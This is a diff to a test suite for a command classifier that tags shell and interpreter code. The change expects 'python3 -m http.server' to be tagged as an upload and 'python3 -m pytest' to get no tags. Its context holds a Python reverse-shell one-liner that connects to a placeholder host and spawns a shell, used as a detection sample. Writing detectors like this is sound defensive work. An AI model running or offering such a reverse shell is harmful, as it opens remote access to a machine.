@@ -238,7 +238,9 @@ describe("shell text and code found in a command", () => {
     expect(first(fetched, "python").tags).toEqual(["exec-downloaded", "interpreter-code"]);
     const reverse = py('import socket,pty;s=socket.socket();s.connect(("h",1));pty.spawn("sh")');
     expect(first(reverse, "python").tags).toEqual(["reverse-shell", "interpreter-code"]);
-    expect(first("python3 -m http.server", "python").tags).toEqual([]);
+    // a module run is not code: no interpreter-code; a file-serving module is an upload
+    expect(first("python3 -m pytest", "python").tags).toEqual([]);
+    expect(first("python3 -m http.server", "python").tags).toEqual(["upload"]);
   });
 });
 
